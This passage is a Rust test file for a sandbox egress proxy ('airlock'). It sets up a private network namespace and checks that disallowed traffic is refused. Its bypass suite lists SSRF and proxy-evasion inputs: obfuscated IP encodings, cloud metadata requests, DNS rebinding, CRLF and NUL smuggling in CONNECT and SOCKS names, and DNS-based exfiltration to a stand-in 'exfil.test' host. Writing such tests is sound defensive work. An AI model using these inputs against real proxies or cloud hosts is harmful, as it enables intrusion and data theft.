//! Egress through the proxy, against a local "internet": a network
//! namespace the test makes, with test servers on addresses that count as
//! public (HTTP, HTTPS with a CA the test generates, a "private" and a
//! "metadata" server, a service on its loopback, a UDP listener as an
//! outside resolver). `airlock run` itself runs inside that namespace (it
//! is the host there), so nothing of the machine's own network is touched
//! and no packet leaves it. The proxy's resolver (`/etc/netns/NS/
//! resolv.conf`) points at the logging UDP listener: any name the proxy
//! looked up would show in its log.

mod common;

use common::{tempdir, Out, Who};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

const WWW: &str = "93.184.216.34";
const OTHER: &str = "93.184.216.35";
const DNS: &str = "93.184.216.53";
const PRIVATE: &str = "10.20.30.40";
const METADATA: &str = "169.254.169.254";

const SERVER: &str = r#"
import sys, os, ssl, socket, threading, http.server, socketserver
log_path, cert_dir, ready = sys.argv[1:4]
lock = threading.Lock()
def log(line):
    with lock:
        with open(log_path, 'a') as f:
            f.write(line + '\n')
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.0'
    def do_GET(self):
        log(f"{self.server.label} {self.command} {self.path} host={self.headers.get('Host')}")
        body = f"hello from {self.server.label} path={self.path}\n".encode()
        self.send_response(200)
        self.send_header('Content-Length', str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    do_POST = do_GET
    def log_message(self, *a):
        pass
class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True
    allow_reuse_address = True
    def handle_error(self, *a):
        pass
def serve(addr, port, label, tls):
    s = S((addr, port), H)
    s.label = label
    if tls:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.load_cert_chain(cert_dir + '/srv.pem', cert_dir + '/srv.key')
        s.socket = ctx.wrap_socket(s.socket, server_side=True, do_handshake_on_connect=False)
    threading.Thread(target=s.serve_forever, daemon=True).start()
serve('93.184.216.34', 80, 'www', False)
serve('93.184.216.34', 443, 'www-tls', True)
serve('93.184.216.35', 80, 'other', False)
serve('93.184.216.35', 443, 'other-tls', True)
serve('10.20.30.40', 80, 'private', False)
serve('169.254.169.254', 80, 'metadata', False)
serve('127.0.0.1', 8081, 'loopback', False)
held = []
def hold():
    h = socket.socket()
    h.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    h.bind(('93.184.216.35', 8000))
    h.listen(64)
    while True:
        c, _ = h.accept()
        held.append(c)
threading.Thread(target=hold, daemon=True).start()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.bind(('93.184.216.53', 53))
open(ready, 'w').write('ok')
while True:
    d, a = u.recvfrom(4096)
    log(f"dns packet from {a[0]} {d!r}")
"#;

/// The local internet: a namespace, its servers, and the CA.
struct Inet {
    ns: String,
    dir: tempdir::Dir,
    server: Child,
}

impl Inet {
    fn new() -> Option<Inet> {
        if !common::is_root() {
            common::skip("egress tests make network namespaces: need root");
            return None;
        }
        for tool in ["/usr/bin/openssl", "/usr/bin/curl"] {
            if !Path::new(tool).exists() {
                common::skip(&format!("{tool} is missing (run scripts/setup.sh)"));
                return None;
            }
        }
        use std::sync::atomic::{AtomicU32, Ordering};
        static N: AtomicU32 = AtomicU32::new(0);
        let ns = format!(
            "aeg-{}-{}",
            std::process::id(),
            N.fetch_add(1, Ordering::SeqCst)
        );
        let ip = |args: &[&str]| {
            let st = Command::new("ip").args(args).status().unwrap();
            assert!(st.success(), "ip {args:?}");
        };
        ip(&["netns", "add", &ns]);
        // The proxy's resolver (glibc, in this namespace) asks the
        // logging listener, once, quickly.
        let etc = PathBuf::from("/etc/netns").join(&ns);
        std::fs::create_dir_all(&etc).unwrap();
        std::fs::write(
            etc.join("resolv.conf"),
            format!("nameserver {DNS}\noptions timeout:1 attempts:1\n"),
        )
        .unwrap();
        ip(&["-n", &ns, "link", "set", "lo", "up"]);
        for a in [WWW, OTHER, DNS, PRIVATE, METADATA] {
            ip(&["-n", &ns, "addr", "add", &format!("{a}/32"), "dev", "lo"]);
        }
        let dir = tempdir::Dir::new();
        let d = dir.path();
        let ossl = |args: &[&str]| {
            let o = Command::new("/usr/bin/openssl")
                .args(args)
                .current_dir(d)
                .output()
                .unwrap();
            assert!(o.status.success(), "openssl {args:?}: {o:?}");
        };
        std::fs::write(
            d.join("san.cnf"),
            "subjectAltName=DNS:www.allowed.test,DNS:other.test,DNS:a.wild.test\n",
        )
        .unwrap();
        ossl(&[
            "req",
            "-x509",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:prime256v1",
            "-nodes",
            "-keyout",
            "ca.key",
            "-out",
            "ca.pem",
            "-days",
            "2",
            "-subj",
            "/CN=airlock egress test CA",
        ]);
        ossl(&[
            "req",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:prime256v1",
            "-nodes",
            "-keyout",
            "srv.key",
            "-out",
            "srv.csr",
            "-subj",
            "/CN=www.allowed.test",
        ]);
        ossl(&[
            "x509",
            "-req",
            "-in",
            "srv.csr",
            "-CA",
            "ca.pem",
            "-CAkey",
            "ca.key",
            "-CAcreateserial",
            "-out",
            "srv.pem",
            "-days",
            "2",
            "-extfile",
            "san.cnf",
        ]);
        for f in ["ca.pem", "srv.pem"] {
            std::fs::set_permissions(
                d.join(f),
                std::os::unix::fs::PermissionsExt::from_mode(0o644),
            )
            .unwrap();
        }
        std::fs::write(d.join("server.py"), SERVER).unwrap();
        let ready = d.join("ready");
        let server = Command::new("ip")
            .args(["netns", "exec", &ns, "/usr/bin/python3"])
            .arg(d.join("server.py"))
            .arg(d.join("log"))
            .arg(d)
            .arg(&ready)
            .stdin(Stdio::null())
            .spawn()
            .unwrap();
        let mut me = Inet { ns, dir, server };
        let t = Instant::now();
        while !ready.exists() {
            if t.elapsed() > Duration::from_secs(20) || me.server.try_wait().unwrap().is_some() {
                panic!("the test servers did not start");
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        Some(me)
    }

    fn certs(&self) -> &Path {
        self.dir.path()
    }

    fn log(&self) -> String {
        std::fs::read_to_string(self.dir.path().join("log")).unwrap_or_default()
    }

    /// `airlock <args>` as `who`, inside the namespace, killed after 60 s.
    fn airlock(&self, who: Who, args: &[&str]) -> Option<(Out, Duration)> {
        let inner = common::airlock(who)?;
        let mut c = Command::new("ip");
        c.args(["netns", "exec", &self.ns])
            .arg(inner.get_program())
            .args(inner.get_args())
            .args(args)
            .env_clear()
            .current_dir("/")
            .stdin(Stdio::null());
        for (k, v) in inner.get_envs() {
            if let Some(v) = v {
                c.env(k, v);
            }
        }
        Some(bounded(c, Duration::from_secs(60)))
    }
}

impl Drop for Inet {
    fn drop(&mut self) {
        let _ = self.server.kill();
        let _ = self.server.wait();
        let _ = Command::new("ip").args(["netns", "del", &self.ns]).status();
        let _ = std::fs::remove_dir_all(PathBuf::from("/etc/netns").join(&self.ns));
    }
}

fn bounded(mut c: Command, limit: Duration) -> (Out, Duration) {
    use std::io::Read;
    c.stdout(Stdio::piped()).stderr(Stdio::piped());
    let t = Instant::now();
    let mut child = c.spawn().unwrap();
    let mut so = child.stdout.take().unwrap();
    let mut se = child.stderr.take().unwrap();
    let so = std::thread::spawn(move || {
        let mut v = Vec::new();
        let _ = so.read_to_end(&mut v);
        v
    });
    let se = std::thread::spawn(move || {
        let mut v = Vec::new();
        let _ = se.read_to_end(&mut v);
        v
    });
    let status = loop {
        if let Some(st) = child.try_wait().unwrap() {
            break st;
        }
        if t.elapsed() > limit {
            let _ = child.kill();
            break child.wait().unwrap();
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    use std::os::unix::process::ExitStatusExt;
    let code = status
        .code()
        .unwrap_or_else(|| 128 + status.signal().unwrap_or(0));
    (
        Out {
            code,
            stdout: String::from_utf8_lossy(&so.join().unwrap_or_default()).into_owned(),
            stderr: String::from_utf8_lossy(&se.join().unwrap_or_default()).into_owned(),
        },
        t.elapsed(),
    )
}

/// Allowed names work through the proxy variables airlock sets inside:
/// curl over HTTP, HTTPS (CONNECT) and SOCKS5 with remote names, Python's
/// urllib over HTTP and HTTPS; a name that is not allowed fails at once
/// with the proxy's reason; --verbose sums it up.
#[test]
fn allowed_names_work_and_others_fail_fast() {
    let Some(net) = Inet::new() else { return };
    let certs = format!("{}:/certs:ro", net.certs().display());
    for who in [Who::Root, Who::User] {
        let script = r#"
set -u
echo "proxy=$HTTP_PROXY $https_proxy $ALL_PROXY"
curl -sS -m 10 http://www.allowed.test/ok-curl
curl -sS -m 10 --cacert /certs/ca.pem https://www.allowed.test/ok-curl-tls
curl -sS -m 10 --cacert /certs/ca.pem -x socks5h://127.0.0.1:1080 https://www.allowed.test/ok-socks
/usr/bin/python3 - <<'EOF'
import ssl, urllib.request
print(urllib.request.urlopen("http://www.allowed.test/ok-py", timeout=10).read().decode(), end="")
ctx = ssl.create_default_context(cafile="/certs/ca.pem")
print(urllib.request.urlopen("https://www.allowed.test/ok-py-tls", timeout=10, context=ctx).read().decode(), end="")
EOF
start=$(date +%s%N)
code=$(curl -sS -m 10 -o /tmp/denied -w '%{http_code}' http://other.test/denied-plain)
end=$(date +%s%N)
echo "denied-code=$code ms=$(( (end - start) / 1000000 ))"
cat /tmp/denied
curl -sS -m 10 --cacert /certs/ca.pem https://other.test/denied-tls 2>&1 | head -c 300; echo
"#;
        let Some((o, _)) = net.airlock(
            who,
            &[
                "run",
                "--verbose",
                "--allow-host",
                "www.allowed.test",
                "--dns-override",
                &format!("www.allowed.test={WWW}"),
                "--dns-override",
                &format!("other.test={OTHER}"),
                "--mount",
                &certs,
                "--",
                "sh",
                "-c",
                script,
            ],
        ) else {
            continue;
        };
        assert_eq!(o.code, 0, "{who:?}: {o:?}");
        let s = &o.stdout;
        assert!(
            s.contains(
                "proxy=http://127.0.0.1:3128 http://127.0.0.1:3128 socks5h://127.0.0.1:1080"
            ),
            "{o:?}"
        );
        for want in [
            "hello from www path=/ok-curl\n",
            "hello from www-tls path=/ok-curl-tls\n",
            "hello from www-tls path=/ok-socks\n",
            "hello from www path=/ok-py\n",
            "hello from www-tls path=/ok-py-tls\n",
        ] {
            assert!(s.contains(want), "{who:?}: {want:?} missing: {o:?}");
        }
        assert!(s.contains("denied-code=403"), "{o:?}");
        let ms: u64 = s
            .split("ms=")
            .nth(1)
            .and_then(|r| r.split_whitespace().next())
            .and_then(|n| n.parse().ok())
            .unwrap();
        assert!(ms < 2000, "a denial took {ms} ms: {o:?}");
        assert!(
            s.contains(
                "airlock egress: other.test:80 is not allowed (no --allow-host rule matches it)"
            ),
            "{o:?}"
        );
        // HTTPS through CONNECT: curl reports the proxy's 403.
        assert!(s.contains("403"), "{o:?}");
        // The summary.
        assert!(
            o.stderr
                .contains("airlock: egress: 5 connection(s) allowed, 2 denied"),
            "{o:?}"
        );
        assert!(
            o.stderr.contains("allowed www.allowed.test:443 x3"),
            "{o:?}"
        );
        assert!(o.stderr.contains("denied  other.test:443 x1"), "{o:?}");
    }
    let log = net.log();
    assert!(!log.contains("other"), "a denied host was reached: {log}");
    assert!(
        !log.contains("dns packet"),
        "the proxy asked a resolver: {log}"
    );
    assert!(
        log.contains("www GET /ok-curl host=www.allowed.test"),
        "{log}"
    );
}

/// The default network is none: no proxy variables, nothing listening.
#[test]
fn net_none_has_no_proxy() {
    let Some(net) = Inet::new() else { return };
    for who in [Who::Root, Who::User] {
        let Some((o, _)) = net.airlock(
            who,
            &[
                "run",
                "--",
                "/usr/bin/python3",
                "-c",
                "import os, socket\nprint(sorted(k for k in os.environ if 'proxy' in k.lower()))\nfor p in (3128, 1080):\n    try:\n        socket.create_connection(('127.0.0.1', p), timeout=3); print(p, 'open')\n    except OSError as e: print(p, e.errno)\ntry:\n    socket.create_connection(('93.184.216.34', 80), timeout=3); print('direct open')\nexcept OSError as e: print('direct', e.errno)",
            ],
        ) else {
            continue;
        };
        assert_eq!(o.code, 0, "{o:?}");
        assert_eq!(
            o.stdout,
            format!(
                "[]\n3128 {r}\n1080 {r}\ndirect {u}\n",
                r = libc::ECONNREFUSED,
                u = libc::ENETUNREACH
            ),
            "{who:?}: {o:?}"
        );
    }
    assert_eq!(net.log(), "");
}

/// A CIDR rule is what opens a non-public address: for a name that
/// resolves into it and for the literal (the same requests as the bypass
/// suite's, allowed now, so the denials there are the policy's).
#[test]
fn cidr_rules_open_private_addresses() {
    let Some(net) = Inet::new() else { return };
    let Some((o, _)) = net.airlock(
        Who::Root,
        &[
            "run",
            "--allow-host",
            "rebind-priv.test",
            "--allow-host",
            "10.20.30.0/24:80",
            "--dns-override",
            &format!("rebind-priv.test={PRIVATE}"),
            "--",
            "sh",
            "-c",
            "curl -sS -m 10 http://rebind-priv.test/cidr-name; curl -sS -m 10 http://10.20.30.40/cidr-literal; curl -sS -m 10 -o /dev/null -w '%{http_code}\\n' http://10.20.30.40:8080/cidr-port",
        ],
    ) else {
        return;
    };
    assert_eq!(
        o.stdout,
        "hello from private path=/cidr-name\nhello from private path=/cidr-literal\n403\n",
        "{o:?}"
    );
    let log = net.log();
    assert!(
        log.contains("private GET /cidr-name host=rebind-priv.test"),
        "{log}"
    );
    assert!(
        log.contains("private GET /cidr-literal host=10.20.30.40"),
        "{log}"
    );
}

/// Rules are checked before anything starts.
#[test]
fn bad_policies_are_refused() {
    for (args, want) in [
        (vec!["--allow-host", "a.*.com"], "invalid host rule"),
        (vec!["--allow-host", "127.1"], "canonical IPv4"),
        (vec!["--allow-host", "x.com:0"], "port 0"),
        (vec!["--allow-host", "10.0.0.1/8"], "host bits"),
        (vec!["--net", "none", "--allow-host", "x.com"], "--net none"),
        (
            vec!["--dns-override", "x.com=1.2.3.4"],
            "--dns-override needs",
        ),
        (
            vec!["--allow-host", "x.com", "--dns-override", "x.com=0x7f.1"],
            "--dns-override",
        ),
        (
            vec!["--isolation", "none", "--allow-host", "x.com"],
            "local tier",
        ),
        (vec!["--net", "sometimes"], "invalid --net"),
    ] {
        let mut a = vec!["run"];
        a.extend_from_slice(&args);
        a.extend_from_slice(&["--", "true"]);
        let Some(o) = common::run(Who::Root, &a) else {
            return;
        };
        assert_eq!(o.code, 125, "{args:?}: {o:?}");
        assert!(o.stderr.contains(want), "{args:?}: {want:?}: {o:?}");
    }
}

const BYPASS: &str = r#"
import socket, ssl, struct, json, errno
P = ('127.0.0.1', 3128)
def recv_all(s):
    data = b''
    while True:
        try:
            d = s.recv(65536)
        except OSError:
            break
        if not d:
            break
        data += d
    return data
def answer(data):
    if not data:
        return 'closed'
    line = data.split(b'\r\n', 1)[0].decode(errors='replace')
    why = ''
    for l in data.split(b'\r\n'):
        if l.lower().startswith(b'x-airlock-denied:'):
            why = l.split(b':', 1)[1].strip().decode(errors='replace')
    return line + ' | ' + why
def raw(req):
    s = socket.create_connection(P, timeout=10)
    s.sendall(req)
    r = answer(recv_all(s))
    s.close()
    return r
def get(url, host=None):
    h = host if host is not None else url.split('/')[2]
    return raw(f'GET {url} HTTP/1.1\r\nHost: {h}\r\nConnection: close\r\n\r\n'.encode())
def connect(target):
    s = socket.create_connection(P, timeout=10)
    s.sendall(f'CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n'.encode())
    head = b''
    while b'\r\n\r\n' not in head:
        d = s.recv(1)
        if not d:
            break
        head += d
    return s, head
def tunnel_tls(target, sni):
    s, head = connect(target)
    if not head.startswith(b'HTTP/1.1 200'):
        return answer(head + recv_all(s))
    ctx = ssl.create_default_context(cafile='/certs/ca.pem')
    ctx.check_hostname = False
    try:
        t = ctx.wrap_socket(s, server_hostname=sni)
        t.sendall(b'GET /bypass-tls HTTP/1.0\r\nHost: www.allowed.test\r\n\r\n')
        return 'reached ' + t.recv(200).decode(errors='replace')
    except (OSError, ssl.SSLError) as e:
        return 'tls-failed ' + type(e).__name__
def tunnel_plain(target, host):
    s, head = connect(target)
    if not head.startswith(b'HTTP/1.1 200'):
        return answer(head + recv_all(s))
    s.sendall(f'GET /bypass-tunnel HTTP/1.1\r\nHost: {host}\r\n\r\n'.encode())
    d = recv_all(s)
    return 'reached ' + d.decode(errors='replace') if d else 'closed'
def socks(atyp, addr, port, cmd=1):
    s = socket.create_connection(('127.0.0.1', 1080), timeout=10)
    s.sendall(b'\x05\x01\x00')
    if s.recv(2) != b'\x05\x00':
        return 'no-method'
    s.sendall(bytes([5, cmd, 0, atyp]) + addr + struct.pack('!H', port))
    r = s.recv(10)
    return f'socks-{r[1]}' if len(r) >= 2 else 'closed'
def name(n):
    return bytes([len(n)]) + n
def err(f):
    try:
        f()
        return 'OK'
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno))
def direct_tcp(addr, port, fam=socket.AF_INET):
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect((addr, port))
def udp_dns():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    q = b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00' + b'\x06secret\x04exfil\x04test\x00\x00\x10\x00\x01'
    s.sendto(q, ('93.184.216.53', 53))
    s.settimeout(2)
    s.recv(512)
cases = {
  'ip-literal': lambda: get('http://93.184.216.34/bypass-1'),
  'decimal': lambda: get('http://2130706433/bypass-2'),
  'short': lambda: get('http://127.1/bypass-3'),
  'hex-dotted': lambda: get('http://0x7f.1/bypass-4'),
  'octal': lambda: get('http://017700000001/bypass-5'),
  'hex': lambda: get('http://0x7f000001/bypass-6'),
  'leading-zero': lambda: get('http://127.0.0.01/bypass-7'),
  'decimal-public': lambda: get('http://1572395042/bypass-8'),
  'v6-loopback': lambda: get('http://[::1]/bypass-9'),
  'v6-mapped': lambda: get('http://[::ffff:127.0.0.1]/bypass-10'),
  'v6-mapped-public': lambda: get('http://[::ffff:5db8:d822]/bypass-11'),
  'v6-zone': lambda: raw(b'CONNECT [fe80::1%25lo]:80 HTTP/1.1\r\nHost: x\r\n\r\n'),
  'metadata': lambda: get('http://169.254.169.254/latest/meta-data/bypass-12'),
  'host-loopback': lambda: get('http://127.0.0.1:8081/bypass-13'),
  'localhost-name': lambda: get('http://localhost:8081/bypass-14'),
  'rebind-loopback': lambda: get('http://rebind-lo.test:8081/bypass-15'),
  'rebind-private': lambda: get('http://rebind-priv.test/bypass-16'),
  'rebind-metadata': lambda: get('http://rebind-meta.test/bypass-17'),
  'rebind-mapped': lambda: get('http://rebind-mapped.test/bypass-18'),
  'not-allowed': lambda: get('http://other.test/bypass-19'),
  'dns-exfil-name': lambda: get('http://c2VjcmV0LWRhdGE.exfil.test/bypass-27'),
  'wildcard-apex': lambda: get('http://wild.test/bypass-20'),
  'wildcard-lookalike': lambda: get('http://evilwild.test/bypass-21'),
  'deny-wins': lambda: get('http://deny.wild.test/bypass-22'),
  'wrong-port': lambda: raw(b'CONNECT port.test:443 HTTP/1.1\r\nHost: port.test:443\r\n\r\n'),
  'host-mismatch': lambda: get('http://www.allowed.test/bypass-23', host='other.test'),
  'two-hosts': lambda: raw(b'GET http://www.allowed.test/bypass-24 HTTP/1.1\r\nHost: www.allowed.test\r\nHost: other.test\r\n\r\n'),
  'crlf-in-name': lambda: raw(b'CONNECT www.allowed.test\rX: y:443 HTTP/1.1\r\n\r\n'),
  'nul-in-name': lambda: raw(b'CONNECT www.allowed.test\x00.other.test:443 HTTP/1.1\r\n\r\n'),
  'userinfo': lambda: get('http://www.allowed.test@other.test/bypass-25', host='other.test'),
  'https-in-clear': lambda: get('https://www.allowed.test/bypass-26'),
  'sni-other-name': lambda: tunnel_tls('www.allowed.test:443', 'other.test'),
  'sni-missing': lambda: tunnel_tls('www.allowed.test:443', None),
  'tunnel-host-mismatch': lambda: tunnel_plain('www.allowed.test:80', 'other.test'),
  'socks-ipv4': lambda: socks(1, socket.inet_aton('93.184.216.34'), 80),
  'socks-local-dns': lambda: socks(1, socket.inet_aton('127.0.0.1'), 8081),
  'socks-ipv6': lambda: socks(4, socket.inet_pton(socket.AF_INET6, '::1'), 8081),
  'socks-name-loopback': lambda: socks(3, name(b'0x7f.1'), 8081),
  'socks-nul-name': lambda: socks(3, name(b'www.allowed.test\x00.x'), 80),
  'socks-crlf-name': lambda: socks(3, name(b'www.allowed.test\r\n'), 80),
  'socks-udp-associate': lambda: socks(1, b'\x00\x00\x00\x00', 0, cmd=3),
  'socks-bind': lambda: socks(3, name(b'www.allowed.test'), 80, cmd=2),
  'socks-not-allowed': lambda: socks(3, name(b'other.test'), 80),
  'direct-tcp': lambda: err(lambda: direct_tcp('93.184.216.34', 80)),
  'direct-v6': lambda: err(lambda: direct_tcp('2606:2800:220:1::34', 80, socket.AF_INET6)),
  'direct-dns-udp': lambda: err(udp_dns),
  'raw-socket': lambda: err(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
  'packet-socket': lambda: err(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)),
  'sandbox-loopback-service': lambda: err(lambda: direct_tcp('127.0.0.1', 8081)),
}
out = {}
for k, f in cases.items():
    try:
        out[k] = f()
    except Exception as e:
        out[k] = 'exception ' + type(e).__name__ + ' ' + str(e)
print(json.dumps(out))
"#;

/// The bypass suite: every way around the policy that we know of, each
/// refused, and none of the test servers (nor the resolver) saw anything.
#[test]
fn bypass_attempts_are_denied() {
    let Some(net) = Inet::new() else { return };
    let certs = format!("{}:/certs:ro", net.certs().display());
    let o = [
        ("www.allowed.test", WWW),
        ("rebind-lo.test", "127.0.0.1"),
        ("rebind-priv.test", PRIVATE),
        ("rebind-meta.test", METADATA),
        ("rebind-mapped.test", "::ffff:127.0.0.1"),
        ("a.wild.test", WWW),
        ("deny.wild.test", WWW),
        ("wild.test", WWW),
        ("evilwild.test", WWW),
        ("port.test", WWW),
        ("other.test", OTHER),
    ]
    .iter()
    .map(|(n, a)| format!("{n}={a}"))
    .collect::<Vec<_>>();
    let mut args = vec![
        "run",
        "--allow-host",
        "www.allowed.test",
        "--allow-host",
        "*.wild.test",
        "--deny-host",
        "deny.wild.test",
        "--allow-host",
        "port.test:80",
        "--allow-host",
        "localhost",
    ];
    for n in [
        "rebind-lo.test",
        "rebind-priv.test",
        "rebind-meta.test",
        "rebind-mapped.test",
    ] {
        args.extend_from_slice(&["--allow-host", n]);
    }
    for x in &o {
        args.extend_from_slice(&["--dns-override", x]);
    }
    args.extend_from_slice(&["--mount", &certs, "--", "/usr/bin/python3", "-c", BYPASS]);
    for who in [Who::Root, Who::User] {
        let Some((out, took)) = net.airlock(who, &args) else {
            continue;
        };
        assert_eq!(out.code, 0, "{who:?}: {out:?}");
        let r: serde_json::Value =
            serde_json::from_str(out.stdout.trim()).unwrap_or_else(|e| panic!("{e}: {out:?}"));
        eprintln!("{who:?}: {r:#}");
        let get = |k: &str| {
            r[k].as_str()
                .unwrap_or_else(|| panic!("no {k}: {r}"))
                .to_string()
        };
        let expect: &[(&str, &str, &str)] = &[
            ("ip-literal", "403", "IP literal that no CIDR rule allows"),
            ("decimal", "403", "not a canonical IPv4 address"),
            ("short", "403", "not a canonical IPv4 address"),
            ("hex-dotted", "403", "not a canonical IPv4 address"),
            ("octal", "403", "not a canonical IPv4 address"),
            ("hex", "403", "not a canonical IPv4 address"),
            ("leading-zero", "403", "not a canonical IPv4 address"),
            ("decimal-public", "403", "not a canonical IPv4 address"),
            ("v6-loopback", "403", "(loopback) that no CIDR rule allows"),
            ("v6-mapped", "403", "(IPv4-mapped)"),
            ("v6-mapped-public", "403", "(IPv4-mapped)"),
            ("v6-zone", "403", "zone ids"),
            ("metadata", "403", "(the cloud metadata address)"),
            ("host-loopback", "403", "(loopback)"),
            ("localhost-name", "403", "which no CIDR rule allows"),
            (
                "rebind-loopback",
                "403",
                "rebind-lo.test resolves to 127.0.0.1 (loopback)",
            ),
            ("rebind-private", "403", "resolves to 10.20.30.40 (private"),
            ("rebind-metadata", "403", "(the cloud metadata address)"),
            ("rebind-mapped", "403", "(IPv4-mapped)"),
            ("not-allowed", "403", "other.test:80 is not allowed"),
            (
                "dns-exfil-name",
                "403",
                "c2vjcmv0lwrhdge.exfil.test:80 is not allowed",
            ),
            ("wildcard-apex", "403", "wild.test:80 is not allowed"),
            (
                "wildcard-lookalike",
                "403",
                "evilwild.test:80 is not allowed",
            ),
            ("deny-wins", "403", "denied by --deny-host deny.wild.test"),
            ("wrong-port", "403", "port.test:443 is not allowed"),
            ("host-mismatch", "403", "does not match the request's host"),
            ("two-hosts", "403", "two Host headers"),
            ("crlf-in-name", "400", "bad request"),
            ("nul-in-name", "400", "control bytes"),
            ("userinfo", "400", "credentials in the URL"),
            ("https-in-clear", "400", "use CONNECT"),
        ];
        for (k, code, why) in expect {
            let v = get(k);
            assert!(
                v.starts_with(&format!("HTTP/1.1 {code} ")) && v.contains(why),
                "{who:?} {k}: wanted {code} with {why:?}, got {v:?}"
            );
        }
        for k in ["sni-other-name", "sni-missing"] {
            assert!(get(k).starts_with("tls-failed"), "{who:?} {k}: {}", get(k));
        }
        assert_eq!(get("tunnel-host-mismatch"), "closed", "{who:?}");
        for k in [
            "socks-ipv4",
            "socks-local-dns",
            "socks-ipv6",
            "socks-name-loopback",
            "socks-nul-name",
            "socks-crlf-name",
            "socks-not-allowed",
        ] {
            assert_eq!(get(k), "socks-2", "{who:?} {k}");
        }
        assert_eq!(get("socks-udp-associate"), "socks-7", "{who:?}");
        assert_eq!(get("socks-bind"), "socks-7", "{who:?}");
        assert_eq!(get("direct-tcp"), "ENETUNREACH", "{who:?}");
        assert_eq!(get("direct-v6"), "ENETUNREACH", "{who:?}");
        assert_eq!(get("direct-dns-udp"), "ENETUNREACH", "{who:?}");
        assert!(
            matches!(get("raw-socket").as_str(), "EPERM" | "EACCES"),
            "{who:?}: {}",
            get("raw-socket")
        );
        assert!(
            matches!(
                get("packet-socket").as_str(),
                "EPERM" | "EACCES" | "EAFNOSUPPORT"
            ),
            "{who:?}: {}",
            get("packet-socket")
        );
        assert_eq!(get("sandbox-loopback-service"), "ECONNREFUSED", "{who:?}");
        let n = r.as_object().unwrap().len();
        assert!(n >= 45, "{n} cases");
        // Every case is answered quickly: no denial waits on a timeout.
        assert!(took < Duration::from_secs(30), "{who:?}: {took:?}");
    }
    // Nothing of it reached a server or a resolver.
    let log = net.log();
    for bad in [
        "bypass",
        "dns packet",
        "private",
        "metadata",
        "loopback",
        "other",
    ] {
        assert!(!log.contains(bad), "{bad:?} in the servers' log: {log}");
    }
}

/// A daemon inside the namespace (it is the host there).
struct Daemon {
    child: Child,
    dir: tempdir::Dir,
}

impl Daemon {
    fn start(net: &Inet) -> Daemon {
        let dir = tempdir::Dir::new();
        let child = Command::new("ip")
            .args(["netns", "exec", &net.ns])
            .arg(common::bin().with_file_name("airlock-serve"))
            .arg("--socket")
            .arg(dir.path().join("airlock.sock"))
            .arg("--state-dir")
            .arg(dir.path().join("state"))
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let d = Daemon { child, dir };
        let t = Instant::now();
        while d.req("GET", "/healthz", None).0 != 200 {
            assert!(t.elapsed() < Duration::from_secs(20), "no daemon");
            std::thread::sleep(Duration::from_millis(50));
        }
        d
    }

    fn req(&self, method: &str, path: &str, body: Option<serde_json::Value>) -> (u16, String) {
        let mut c = Command::new("curl");
        c.args(["-sS", "--unix-socket"])
            .arg(self.dir.path().join("airlock.sock"))
            .args(["-X", method, "-w", "\n%{http_code}"]);
        if let Some(b) = body {
            c.args(["-H", "content-type: application/json", "--data-binary"])
                .arg(b.to_string());
        }
        let o = c.arg(format!("http://airlock{path}")).output().unwrap();
        let s = String::from_utf8_lossy(&o.stdout).to_string();
        let (body, code) = s.rsplit_once('\n').unwrap_or(("", "0"));
        (code.trim().parse().unwrap_or(0), body.to_string())
    }

    /// Runs argv; returns its stdout.
    fn exec(&self, id: &str, argv: &[&str]) -> String {
        let (s, b) = self.req(
            "POST",
            &format!("/v1/sandboxes/{id}/processes"),
            Some(serde_json::json!({ "argv": argv })),
        );
        assert_eq!(s, 200, "{b}");
        let mut out = String::new();
        for line in b.lines() {
            let v: serde_json::Value = serde_json::from_str(line).unwrap();
            if v["type"] == "stdout" {
                out += v["text"].as_str().unwrap_or("");
            }
        }
        out
    }
}

impl Drop for Daemon {
    fn drop(&mut self) {
        // SAFETY: SIGTERM to the process we started (ip exec'd the daemon).
        unsafe { libc::kill(self.child.id() as i32, libc::SIGTERM) };
        let t = Instant::now();
        while !matches!(self.child.try_wait(), Ok(Some(_))) {
            if t.elapsed() > Duration::from_secs(20) {
                let _ = self.child.kill();
                let _ = self.child.wait();
                break;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

/// The service: a sandbox created with a policy, the policy replaced while
/// it runs (PUT .../network), every decision in its audit log; a sandbox
/// without a network cannot be given one, and bad rules are refused.
#[test]
fn service_policy_update_and_audit() {
    let Some(net) = Inet::new() else { return };
    let d = Daemon::start(&net);
    let overrides = [
        format!("www.allowed.test={WWW}"),
        format!("other.test={OTHER}"),
    ];
    let (s, v) = d.req(
        "POST",
        "/v1/sandboxes",
        Some(serde_json::json!({
            "network": {"allow": ["www.allowed.test"], "dns_override": overrides}
        })),
    );
    assert_eq!(s, 201, "{v}");
    let id = serde_json::from_str::<serde_json::Value>(&v).unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    let fetch = |path: &str| {
        d.exec(
            &id,
            &[
                "curl",
                "-sS",
                "-m",
                "10",
                "-w",
                " %{http_code}\n",
                &format!("http://{path}"),
            ],
        )
    };
    assert!(fetch("www.allowed.test/svc-1").starts_with("hello from www path=/svc-1"));
    assert!(fetch("other.test/svc-2").contains("other.test:80 is not allowed"));
    // The new policy: other.test only.
    let (s, b) = d.req(
        "PUT",
        &format!("/v1/sandboxes/{id}/network"),
